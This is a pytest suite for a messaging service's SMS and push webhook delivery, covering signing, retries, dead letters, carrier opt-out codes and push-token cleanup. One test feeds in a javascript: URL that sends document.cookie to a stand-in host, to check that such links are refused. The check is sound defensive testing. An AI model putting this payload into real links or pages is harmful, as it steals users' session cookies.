"""SMS and push through the provider's webhook (a real aiohttp server on loopback): signed JSON,
retries of 5xx with backoff, dead letters listed and retried, `<channel>_sent` events, and
SendCampaign on SMS."""
import asyncio
import base64
import hashlib
import hmac
import json
import time

import grpc
import pytest
import pytest_asyncio

from protos.tailor.v1 import campaign_pb2 as cpb
from protos.tailor.v1 import messaging_pb2 as mpb
from protos.tailor.v1 import profile_pb2 as ppb
from tests.conftest import run_module

from .conftest import stored_attributes
from .provider import Provider
from .test_send_campaign import until_done

HOOK_KEY = b"the-secret-we-share-with-the-provider"


@pytest_asyncio.fixture
async def provider():
    p = Provider()
    await p.start()
    yield p
    await p.stop()


@pytest.fixture
def settings(settings, provider):
    (settings.secrets_dir / "delivery-webhook.keys").write_text(
        f"hook1:{base64.b64encode(HOOK_KEY).decode()}\n")
    return settings.model_copy(update={
        "sms_webhook_url": provider.url("sms"), "push_webhook_url": provider.url("push"),
        "delivery_attempts": 3, "delivery_backoff_seconds": 0.01})


async def sms_user(campaigns, profiles, user="t1", phone="+447700900123", stored_by=None):
    """`stored_by`: a server whose store the attributes are written to directly, as a Tailor
    before UpsertAttributes checked addresses stored them (a number it refuses now)."""
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="sms", channel="sms", policy="fixed",
        variants=[cpb.Variant(id="s", content={"text": "Hi {{ first_name | default('') }}"})])))
    if stored_by is not None:
        await stored_attributes(stored_by, user, phone=phone, first_name="Ann")
    else:
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=user, attributes={"phone": phone, "first_name": "Ann"}))
    await profiles.SetConsent(ppb.SetConsentRequest(user_id=user, channel="sms", opted_in=True,
                                                    source="signup"))


async def sent_events(profiles, type_):
    return [e async for e in profiles.ExportEvents(ppb.ExportEventsRequest()) if e.type == type_]


def compose(user="t1", campaign="sms"):
    return mpb.ComposeMessageRequest(campaign_id=campaign, user_id=user, deliver=True)


async def test_a_signed_sms_goes_after_two_503s_and_records_sms_sent(
        provider, campaigns, profiles, messaging):
    await sms_user(campaigns, profiles)
    provider.answer(503, 503, 200)
    msg = await messaging.ComposeMessage(compose())
    assert msg.delivered
    assert len(provider.requests) == 3  # two transient failures, then success
    assert len({r["raw"] for r in provider.requests}) == 1  # the same body each time
    req = provider.requests[0]
    assert req["path"] == "/sms"
    assert req["json"] == {"id": msg.decision_id, "channel": "sms", "to": "+447700900123",
                           "campaign_id": "sms", "parts": {"text": "Hi Ann"}, "send_at": 0.0}
    signed = req["headers"]["X-Tailor-Timestamp"].encode() + b"." + req["raw"]
    assert abs(int(req["headers"]["X-Tailor-Timestamp"]) - time.time()) < 60
    expected = "sha256=" + hmac.new(HOOK_KEY, signed, hashlib.sha256).hexdigest()
    assert req["headers"]["X-Tailor-Signature"] == expected
    assert req["headers"]["X-Tailor-Key-Id"] == "hook1"
    [event] = await sent_events(profiles, "sms_sent")
    assert (event.user_id, event.attributes["decision_id"]) == ("t1", msg.decision_id)
    listed = await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=10))
    assert list(listed.letters) == []

async def _push_campaign_and_user(campaigns, profiles, user: str, token: str) -> None:
    """Campaign "push" (one variant) and `user` holding the push token `token`."""
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="push", channel="push", policy="fixed",
        variants=[cpb.Variant(id="p", content={"title": "New", "body": "For you"})])))
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id=user, attributes={"push_token": token}))


async def test_a_refused_push_is_a_dead_letter_that_can_be_listed_and_retried(
        provider, campaigns, profiles, messaging):
    await _push_campaign_and_user(campaigns, profiles, "p1", "tok-123")
    provider.answer(400)
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("p1", "push"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "webhook 400" in err.value.details()
    assert len(provider.requests) == 1  # a 4xx is not retried
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=10))).letters
    assert (letter.channel, letter.campaign_id, letter.reason, letter.attempts) == \
        ("push", "push", "webhook 400", 1)
    assert letter.user_ref.startswith("u:") and "p1" not in str(letter)
    assert await sent_events(profiles, "push_sent") == []
    provider.answer(200)
    again = await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))
    assert again.decision_id == letter.decision_id
    assert provider.requests[1]["raw"] == provider.requests[0]["raw"]
    assert (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=10))).letters == []
    [event] = await sent_events(profiles, "push_sent")
    assert event.attributes["decision_id"] == letter.decision_id
    with pytest.raises(grpc.RpcError) as err:
        await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))
    assert err.value.code() == grpc.StatusCode.NOT_FOUND


async def test_two_retries_of_one_dead_letter_at_once_send_it_once(
        provider, campaigns, profiles, messaging):
    await sms_user(campaigns, profiles)
    provider.answer(400)
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose())
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=5))).letters
    provider.answer(200)
    provider.delay = 0.3  # the first retry is still sending when the second arrives
    got = await asyncio.gather(*(messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(
        id=letter.id)) for _ in range(2)), return_exceptions=True)
    [refused] = [g for g in got if isinstance(g, grpc.RpcError)]
    assert refused.code() == grpc.StatusCode.FAILED_PRECONDITION and "being retried" in refused.details()
    assert len(provider.requests) == 2  # the composed attempt and one retry
    assert len(await sent_events(profiles, "sms_sent")) == 1


async def test_every_attempt_failing_is_unavailable_and_a_dead_letter(
        provider, campaigns, profiles, messaging):
    await sms_user(campaigns, profiles)
    provider.answer(502)
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose())
    assert err.value.code() == grpc.StatusCode.UNAVAILABLE
    assert len(provider.requests) == 3  # delivery_attempts
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(
        limit=5, channel="sms"))).letters
    assert (letter.reason, letter.attempts) == ("webhook 502", 3)
    with pytest.raises(grpc.RpcError) as err:  # still failing: it stays, attempts add up
        await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))
    assert err.value.code() == grpc.StatusCode.UNAVAILABLE
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=5))).letters
    assert letter.attempts == 6
    assert (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(
        limit=5, channel="email"))).letters == []
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=0))
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT and "limit" in err.value.details()



async def test_the_cli_lists_and_retries_dead_letters(provider, campaigns, profiles, messaging,
                                                      tailor_server):
    await sms_user(campaigns, profiles)
    provider.answer(404)
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose())
    server = ["--server", f"127.0.0.1:{tailor_server.port}", "--timeout", "30"]
    out = await asyncio.to_thread(run_module, "clients", "message", "dead-letters", *server,
                                  "--channel", "sms")
    [letter] = json.loads(out.stdout)["letters"]
    assert (letter["reason"], letter["attempts"], letter["channel"]) == ("webhook 404", 1, "sms")
    provider.answer(202)
    out = await asyncio.to_thread(run_module, "clients", "message", "retry", *server,
                                  "--id", letter["id"])
    assert json.loads(out.stdout)["id"] == letter["id"]
    assert len(provider.requests) == 2
    out = await asyncio.to_thread(run_module, "clients", "message", "dead-letters", *server)
    assert json.loads(out.stdout)["letters"] == []


async def test_send_campaign_delivers_sms_through_the_webhook(
        provider, campaigns, profiles, messaging):
    await sms_user(campaigns, profiles, "t0", "+447700900100")
    for i in (1, 2):
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=f"t{i}", attributes={"phone": f"+44770090010{i}", "first_name": f"N{i}"}))
        await profiles.SetConsent(ppb.SetConsentRequest(user_id=f"t{i}", channel="sms",
                                                        opted_in=True, source="signup"))
    await profiles.SetConsent(ppb.SetConsentRequest(user_id="nophone", channel="sms",
                                                    opted_in=True, source="signup"))
    provider.answer(503, 200)  # the first message needs a retry
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="sms", user_ids=["t0", "t1", "t2", "nophone"], rate_per_second={"sms": 100}))
    done = await until_done(messaging, started.send_id)
    assert (done.sent, done.failed, done.pending) == (3, 1, 0)
    assert dict(done.failed_by_reason) == {"no phone number": 1}
    bodies = {json.loads(r["raw"])["to"]: json.loads(r["raw"]) for r in provider.requests}
    assert sorted(bodies) == ["+447700900100", "+447700900101", "+447700900102"]
    assert bodies["+447700900102"]["parts"] == {"text": "Hi N2"}
    events = await sent_events(profiles, "sms_sent")
    assert sorted(e.attributes["decision_id"] for e in events) == sorted(
        b["id"] for b in bodies.values())


async def test_retries_of_one_dead_letter_on_two_workers_send_it_once(provider, server_process,
                                                                       tmp_path):
    """Each worker only knew its own running retries, so two workers could both send a letter
    (the receiver saw the same id twice). A retry now claims the letter in the store first
    (one write transaction): a claim held by any worker refuses the other retries."""
    from protos.tailor.v1 import campaign_pb2_grpc, messaging_pb2_grpc, profile_pb2_grpc
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "delivery-webhook.keys").write_text(f"hook1:{base64.b64encode(HOOK_KEY).decode()}\n")
    served = server_process(tmp_path / "data", workers=2, env={
        "TAILOR_SECRETS_DIR": str(secrets), "TAILOR_SMS_WEBHOOK_URL": provider.url("sms"),
        "TAILOR_DELIVERY_ATTEMPTS": "1", "TAILOR_PUBLIC_URL": "https://t.example"})
    # a connection each (no shared subchannel pool): the kernel spreads them over the workers
    channels = [grpc.aio.insecure_channel(served.target, options=[("grpc.use_local_subchannel_pool", 1)])
                for _ in range(8)]
    try:
        first = channels[0]
        await sms_user(campaign_pb2_grpc.CampaignServiceStub(first),
                       profile_pb2_grpc.ProfileServiceStub(first))
        provider.answer(400)
        with pytest.raises(grpc.RpcError) as err:
            await messaging_pb2_grpc.MessagingServiceStub(first).ComposeMessage(compose())
        assert "webhook 400" in err.value.details(), err.value.details()
        [letter] = (await messaging_pb2_grpc.MessagingServiceStub(first).ListDeadLetters(
            mpb.ListDeadLettersRequest(limit=5))).letters
        provider.answer(200)
        provider.delay = 1.0  # every retry arrives while the first is still sending
        got = await asyncio.gather(*(messaging_pb2_grpc.MessagingServiceStub(ch).RetryDeadLetter(
            mpb.RetryDeadLetterRequest(id=letter.id), timeout=30) for ch in channels),
            return_exceptions=True)
    finally:
        for ch in channels:
            await ch.close()
    refused = [g for g in got if isinstance(g, grpc.RpcError)]
    assert len(refused) == 7, got
    assert all(r.code() == grpc.StatusCode.FAILED_PRECONDITION and "being retried" in r.details()
               for r in refused)
    assert len(provider.requests) == 2  # the composed attempt and one retry


async def test_a_redirected_webhook_post_is_a_failure_not_a_get_counted_as_sent(
        provider, campaigns, profiles, messaging):
    """The provider answers the POST with a 301 (e.g. its API moved, or http -> https):
    aiohttp followed it as a GET without the body, the landing page's 200 counted as delivered
    and `sms_sent` was recorded for a message the provider never got. Redirects are not
    followed: a 3xx is a permanent failure naming it (a dead letter), and nothing is sent."""
    await sms_user(campaigns, profiles)
    for status in (301, 307):
        provider.answer(status)
        with pytest.raises(grpc.RpcError) as err:
            await messaging.ComposeMessage(compose())
        assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert f"webhook {status}" in err.value.details()
    assert provider.gets == [] and len(provider.requests) == 2
    assert await sent_events(profiles, "sms_sent") == []


async def test_a_message_whose_adapter_is_gone_when_it_goes_fails_naming_that(
        provider, tailor_server, campaigns, profiles, messaging):
    """A job resumed by a server started without the channel's adapter (its webhook URL
    removed) settled the stored messages failed `error`, with an ERROR log of a KeyError: the
    adapter was used without asking whether there is one. They fail naming it."""
    await sms_user(campaigns, profiles, "t1", "+447700900101")
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="t2", attributes={"phone": "+447700900102"}))
    await profiles.SetConsent(ppb.SetConsentRequest(user_id="t2", channel="sms", opted_in=True,
                                                    source="signup"))
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(  # t2 goes 2 s after t1
        campaign_id="sms", user_ids=["t1", "t2"], rate_per_second={"sms": 0.5}))
    deadline = time.time() + 10
    while not provider.requests and time.time() < deadline:
        await asyncio.sleep(0.05)
    del tailor_server.delivery.webhooks.urls["sms"]  # as a restart without --sms-webhook-url
    done = await until_done(messaging, started.send_id)
    assert (done.sent, dict(done.failed_by_reason)) == (
        1, {"no sms adapter: FailedPrecondition": 1})


async def test_an_sms_goes_only_to_a_number_whose_stop_can_be_honoured(
        tailor_server, provider, campaigns, profiles, messaging, settings):
    """A phone without its country code ("07700 900123") got SMS, but a STOP from it (the
    provider reports "+447700900123") found no one: the index and the suppression list hold
    E.164 numbers only, so the texts kept coming. Such a number is a bad address now, and a
    written-out E.164 number goes to the provider in its E.164 form."""
    from .test_sms_inbound import reply, sms_consent
    await sms_user(campaigns, profiles, phone="07700 900123", stored_by=tailor_server)
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose())
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "`phone` attribute is not an address the sms adapter can carry" in err.value.details()
    assert "900123" not in err.value.details()
    assert provider.requests == []
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="t1", attributes={"phone": "+44 (7700) 900-123"}))
    assert (await messaging.ComposeMessage(compose())).delivered
    assert provider.requests[0]["json"]["to"] == "+447700900123"
    assert await reply(settings, "+447700900123", "STOP") == 200
    assert await sms_consent(profiles, "t1") is False


async def _dead_letter_then_a_new_number(provider, profiles, messaging):
    """t1's text to +447700900123 left as a dead letter (the provider down), then t1 moves to
    +447700900999: the letter, retried, goes to the number the user left."""
    provider.answer(503)
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose())
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=10))).letters
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="t1", attributes={"phone": "+447700900999"}))
    return letter


async def test_a_stop_from_the_number_a_dead_letter_went_to_reaches_the_user_after_a_text_to_the_new_one(
        provider, campaigns, profiles, messaging, settings):
    """The number a text was composed to was dropped from the index at the first text to the
    user's new number, while that text (a dead letter retried, a deferred SendCampaign
    message) still went there: a STOP from it matched nobody. The number is indexed as a text
    goes to it, until a text goes to another."""
    from .test_sms_inbound import reply, sms_consent
    await sms_user(campaigns, profiles, phone="+447700900123")
    letter = await _dead_letter_then_a_new_number(provider, profiles, messaging)
    provider.answer(200)
    await messaging.ComposeMessage(compose())  # to the new number
    await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))  # to the old one
    assert provider.requests[-1]["json"]["to"] == "+447700900123"
    assert await reply(settings, "+447700900123", "STOP") == 200
    assert await sms_consent(profiles, "t1") is False
    await profiles.SetConsent(ppb.SetConsentRequest(user_id="t1", channel="sms", opted_in=True,
                                                    source="signup again"))
    await messaging.ComposeMessage(compose())  # a text to another number since: not theirs now
    assert await reply(settings, "+447700900123", "Stop") == 200  # (another body: not a replay)
    assert await sms_consent(profiles, "t1") is True


async def test_the_access_export_reads_a_webhook_letters_body_as_its_text(
        tailor_server, provider, campaigns, profiles, messaging):
    """A webhook body is UTF-8 JSON, kept as latin-1 text of its bytes: the access export's
    section (its exporter on the real store; ExportProfile itself wants a pii-reader, as in
    test_export_messages) gives the text ("Hi Zoë"), not those bytes read as latin-1."""
    await sms_user(campaigns, profiles)
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="t1", attributes={"first_name": "Zoë"}))
    provider.answer(400)
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose())
    [letter] = tailor_server.delivery.dead.export_user("t1")["dead_letters"]
    assert json.loads(letter["message"])["parts"] == {"text": "Hi Zoë"}


async def test_a_number_the_provider_says_takes_no_texts_is_listed_as_a_hard_bounce(
        provider, campaigns, profiles, messaging):
    """A 400 whose body carries Twilio's 21211 (invalid 'To' number) lists the number and
    records the user's `sms_bounce` event, as SMTP's 5.1.1 does for an email; one carrying
    30003 (unreachable handset, usually for a while) lists nothing. Before, both were the
    same `webhook 400`, and nothing was listed."""
    await sms_user(campaigns, profiles)
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="t2", attributes={"phone": "+447700900456"}))
    await profiles.SetConsent(ppb.SetConsentRequest(user_id="t2", channel="sms", opted_in=True,
                                                    source="signup"))
    provider.answer(400)
    for user, reply in (("t1", {"code": 21211, "status": 400}), ("t2", {"ErrorCode": "30003"})):
        provider.refusal_body = json.dumps(reply)
        with pytest.raises(grpc.RpcError) as err:
            await messaging.ComposeMessage(compose(user))
        assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert f"webhook 400 code {reply.get('code') or reply.get('ErrorCode')}" in \
            err.value.details()
    listed = [(await profiles.CheckSuppression(ppb.SuppressionAddress(phone=n))).suppressed
              for n in ("+447700900123", "+447700900456")]
    assert listed == [True, False]
    bounces = await sent_events(profiles, "sms_bounce")
    assert [(e.user_id, e.channel) for e in bounces] == [("t1", "sms")]
    assert len(provider.requests) == 2  # a 4xx is not retried, either way


async def test_a_number_whose_owner_texted_stop_to_the_carrier_is_their_sms_opt_out(
        provider, campaigns, profiles, messaging, caplog):
    """A 400 carrying Twilio's 21610 says the number's owner replied STOP to the sender: the
    carrier refuses every text from it until START. It is their opt-out of sms, recorded as an
    `unsubscribe` event on sms (the user's consent withdrawn, and that of the profile sharing
    the number, as such an event's), nothing listed, the user id nowhere in the log. Before,
    it was listed nowhere: each campaign texted the number again, each refused."""
    await sms_user(campaigns, profiles, "stopper-1")
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(  # a family phone
        user_id="stopper-2", attributes={"phone": "+44 7700 900123"}))
    await profiles.SetConsent(ppb.SetConsentRequest(user_id="stopper-2", channel="sms",
                                                    opted_in=True, source="signup"))
    provider.answer(400)
    provider.refusal_body = json.dumps({"code": 21610, "status": 400})
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("stopper-1"))
    assert "webhook 400 code 21610" in err.value.details()
    [optout] = await sent_events(profiles, "unsubscribe")
    assert (optout.user_id, optout.channel) == ("stopper-1", "sms")
    for user in ("stopper-1", "stopper-2"):
        for _ in range(100):  # the other profile's after the batch's commit (its outbox)
            got = await profiles.GetProfile(ppb.GetProfileRequest(user_id=user))
            if not got.consent["sms"].opted_in:
                break
            await asyncio.sleep(0.05)
        assert not got.consent["sms"].opted_in, user
    assert not (await profiles.CheckSuppression(ppb.SuppressionAddress(
        phone="+447700900123"))).suppressed
    assert await sent_events(profiles, "sms_bounce") == []
    again = await messaging.ComposeMessage(compose("stopper-1"))  # not texted again
    assert not again.delivered and len(provider.requests) == 1
    assert "stopper" not in caplog.text


async def test_a_carrier_stop_at_the_send_closes_transactional_texts_as_a_stop_reply_does(
        provider, campaigns, profiles, messaging, settings):
    """21610 says the carrier blocks every text from the sender to the number until START, as
    after a STOP texted as the whole reply: it closes the transactional texts of every profile
    at the number too, as that reply does (`messages.stops`), and a START reopens them.
    Before, it withdrew marketing alone: a receipt to the number went to the provider again."""
    from .test_sms_inbound import reply
    await sms_user(campaigns, profiles, "carrier-1")
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(  # a family phone
        user_id="carrier-2", attributes={"phone": "+447700900123"}))
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="code", channel="sms", policy="fixed", purpose="transactional",
        variants=[cpb.Variant(id="a", content={"text": "Your code"})])))
    provider.answer(400)
    provider.refusal_body = json.dumps({"code": 21610, "status": 400})
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose("carrier-1"))
    provider.answer(200)
    receipts = [await messaging.ComposeMessage(compose(user, "code"))
                for user in ("carrier-1", "carrier-2")]
    assert [(r.suppressed, r.reason) for r in receipts] == [(True, "no_consent")] * 2
    assert len(provider.requests) == 1
    await asyncio.sleep(1.1)  # a START signed (whole seconds) after the refusal
    assert await reply(settings, "+447700900123", "START") == 200
    assert (await messaging.ComposeMessage(compose("carrier-1", "code"))).delivered


async def test_a_push_refused_with_an_sms_opt_out_code_is_the_refusal_it_was(
        provider, campaigns, profiles, messaging):
    """21610 is Twilio's code for a number whose owner texted STOP: it says nothing of a push
    token, and no push opt-out is recorded for it. Before, a push provider's 400 carrying it
    looked the token up as a phone number (KeyError): the RPC failed INTERNAL, not as the
    refusal it was, and a send job ended with the error."""
    await _push_campaign_and_user(campaigns, profiles, "p2", "tok-456")
    provider.answer(400)
    provider.refusal_body = json.dumps({"code": 21610})
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("p2", "push"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "webhook 400 code 21610" in err.value.details()
    [letter] = (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(limit=10))).letters
    assert (letter.channel, letter.reason) == ("push", "webhook 400 code 21610")
    assert await sent_events(profiles, "unsubscribe") == []


async def test_a_refusals_code_out_of_range_is_no_code(provider, campaigns, profiles,
                                                      messaging):
    """The provider's reply is untrusted: a JSON number of hundreds of digits (or a negative
    one) is no error code, as a string of 10 digits already was. Before, it was copied whole
    into the refusal's reason (the dead letter's, the recipient's that GetSendProgress counts
    by, the RPC's details): `webhook 400 code 1000...0`."""
    await sms_user(campaigns, profiles)
    provider.answer(400)
    for code in (10 ** 400, -21211, 10 ** 9):
        provider.refusal_body = json.dumps({"code": code})
        with pytest.raises(grpc.RpcError) as err:
            await messaging.ComposeMessage(compose("t1"))
        assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert "webhook 400" in err.value.details()
        assert "webhook 400 code" not in err.value.details()
    assert not (await profiles.CheckSuppression(ppb.SuppressionAddress(phone="+447700900123"))
                ).suppressed


async def test_a_provider_saying_every_number_is_gone_trips_the_jobs_sms_breaker(
        provider, campaigns, profiles, messaging, caplog):
    """An SMS provider answering 21211 to every text (an adapter that mangles the numbers)
    stops the job once more than half of the last 20 texts bounced, listing none of them;
    before, each number was listed (the email breaker did not watch texts). The log line says
    so of numbers."""
    users = [f"m{i:02d}" for i in range(24)]
    await sms_user(campaigns, profiles, users[0], "+447700900200")
    for i, user in enumerate(users[1:], 1):
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=user, attributes={"phone": f"+4477009002{i:02d}"}))
        await profiles.SetConsent(ppb.SetConsentRequest(user_id=user, channel="sms",
                                                        opted_in=True, source="signup"))
    provider.answer(400)
    provider.refusal_body = json.dumps({"code": 21211, "status": 400})
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="sms", user_ids=users, rate_per_second={"sms": 500}))
    done = await until_done(messaging, started.send_id)
    assert done.cancelled_at > 0 and done.sent == 0 and done.failed >= 20
    assert done.suppressed_by_reason["bounce_breaker"] == 24 - done.failed
    listed = [(await profiles.CheckSuppression(ppb.SuppressionAddress(
        phone=f"+4477009002{i:02d}"))).suppressed for i in range(24)]
    assert not any(listed)
    assert await sent_events(profiles, "sms_bounce") == []
    line = _breaker_line(caplog, started.send_id)
    assert "sms messages" in line and "; the numbers held are not listed, those" in line, line


def _breaker_line(caplog, send_id: str) -> str:
    """The one log line of the send job `send_id`'s tripped breaker."""
    [line] = [r.getMessage() for r in caplog.records
              if r.getMessage().startswith(f"send {send_id} stopped: more than")]
    return line


async def test_a_carrier_stop_of_a_number_the_user_moved_from_stops_its_holder_not_their_new_one(
        provider, campaigns, profiles, messaging):
    """A dead letter retried to the number the user left for a new one, refused with 21610:
    the carrier blocks that number, so the profile holding it (t2) has its texts closed, but
    the user's texts to their new number, which nothing blocks, still go (their receipts, and
    their marketing: no event either, the number not theirs now). Before, the user was
    stopped too (indexed at the old number as the letter went), their receipts to the new
    number answered `no_consent`."""
    await sms_user(campaigns, profiles)
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="code", channel="sms", policy="fixed", purpose="transactional",
        variants=[cpb.Variant(id="a", content={"text": "Your code"})])))
    letter = await _dead_letter_then_a_new_number(provider, profiles, messaging)
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(  # the number's holder now
        user_id="t2", attributes={"phone": "+447700900123"}))
    provider.answer(400)
    provider.refusal_body = json.dumps({"code": 21610, "status": 400})
    with pytest.raises(grpc.RpcError):
        await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))
    assert provider.requests[-1]["json"]["to"] == "+447700900123"
    provider.answer(200)
    sent = [await messaging.ComposeMessage(compose(u, c))
            for u, c in (("t1", "code"), ("t1", "sms"), ("t2", "code"))]
    assert [(m.delivered, m.reason) for m in sent] == [(True, ""), (True, ""), (False, "no_consent")]
    assert provider.requests[-1]["json"]["to"] == "+447700900999"


async def test_a_push_url_that_could_run_script_is_refused_and_never_sent(
        provider, campaigns, profiles, messaging):
    """A push `url` is the link the app opens on a tap (often in a web view): held to the rule
    of an item's links. Before, `javascript:` went to the provider as the message's url."""
    def spec(cid, url):
        return cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
            campaign_id=cid, channel="push", policy="fixed",
            variants=[cpb.Variant(id="p", content={"title": "New", "body": "b", "url": url})]))
    with pytest.raises(grpc.RpcError) as err:
        await campaigns.CreateCampaign(spec("static", " JavaScript:alert(1)"))
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "variants[0].content['url']" in err.value.details() and "'JavaScript'" in err.value.details()
    await campaigns.CreateCampaign(spec("link", "{{ profile.link }}"))
    for user, link in (("bad", "javascript:fetch('//x.example/'+document.cookie)"),
                       ("good", "myapp://item/7")):
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=user, attributes={"push_token": f"tok-{user}", "link": link}))
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("bad", "link"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "part 'url'" in err.value.details() and "'javascript'" in err.value.details()
    assert "cookie" not in err.value.details()  # the user's data is not echoed
    assert provider.requests == []
    assert (await messaging.ComposeMessage(compose("good", "link"))).delivered
    assert [r["json"]["parts"]["url"] for r in provider.requests] == ["myapp://item/7"]
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="link", user_ids=["bad"], rate_per_second={"push": 100}))
    done = await until_done(messaging, started.send_id)
    assert (done.sent, done.failed) == (0, 1)
    [reason] = done.failed_by_reason
    assert reason.startswith("BadLink: variant 'p', part 'url'") and "cookie" not in reason
    assert len(provider.requests) == 1
    assert [e.user_id for e in await sent_events(profiles, "push_sent")] == ["good"]


async def _push_token(server, user: str) -> str | None:
    """The user's stored push_token (GetProfile masks it: a PII key)."""
    [meta] = await asyncio.to_thread(server.profiles.repo.metas, [user])
    return meta["attributes"].get("push_token")


async def test_a_push_token_the_provider_answers_gone_is_dropped_and_not_pushed_again(
        provider, campaigns, profiles, messaging, tailor_server):
    """410 from the push webhook (APNs's Unregistered: the app was uninstalled) drops the
    user's push_token while their profile holds it. Before, it stayed, and every campaign
    pushed to the dead token again, each a dead letter."""
    await _push_campaign_and_user(campaigns, profiles, "gone", "tok-old")
    provider.answer(410)
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("gone", "push"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION and "webhook 410" in err.value.details()
    assert await _push_token(tailor_server, "gone") is None
    with pytest.raises(grpc.RpcError) as err:  # the next campaign's message: not pushed
        await messaging.ComposeMessage(compose("gone", "push"))
    assert "no `push_token`" in err.value.details()
    assert len(provider.requests) == 1
    # a 404 (a wrong webhook URL answers it too) drops nothing; a 410 for a token the user
    # replaced since (the app registered a new one) leaves the new one
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="moved", attributes={"push_token": "tok-a"}))
    provider.answer(404)
    with pytest.raises(grpc.RpcError):
        await messaging.ComposeMessage(compose("moved", "push"))
    assert await _push_token(tailor_server, "moved") == "tok-a"
    [letter] = [d for d in (await messaging.ListDeadLetters(mpb.ListDeadLettersRequest(
        limit=5))).letters if d.reason == "webhook 404"]
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="moved", attributes={"push_token": "tok-b"}))
    provider.answer(410)
    with pytest.raises(grpc.RpcError):
        await messaging.RetryDeadLetter(mpb.RetryDeadLetterRequest(id=letter.id))
    assert provider.requests[-1]["json"]["to"] == "tok-a"
    assert await _push_token(tailor_server, "moved") == "tok-b"


async def test_a_push_token_stored_with_surrounding_whitespace_is_dropped_when_gone(
        provider, campaigns, profiles, messaging, tailor_server):
    """A push token stored with a trailing newline (UpsertAttributes takes it: a token is
    trimmed, as the suppression list hashes it) is pushed to trimmed; a 410 for it compared
    the trimmed token with the stored one and dropped nothing: every campaign pushed to the
    dead token again, each a dead letter."""
    await _push_campaign_and_user(campaigns, profiles, "nl", " tok-nl\n")
    provider.answer(410)
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("nl", "push"))
    assert "webhook 410" in err.value.details()
    assert provider.requests[-1]["json"]["to"] == "tok-nl"
    assert await _push_token(tailor_server, "nl") is None


async def test_a_push_relay_answering_every_token_gone_trips_the_jobs_breaker_and_drops_none(
        provider, campaigns, profiles, messaging, tailor_server, caplog):
    """A push endpoint answering 410 to all (retired: `410 Gone`) stops the job once more than
    half of the last 20 pushes bounced, and no user loses their token to it; the log line says
    so of tokens (it said "the addresses held are not listed" on every channel)."""
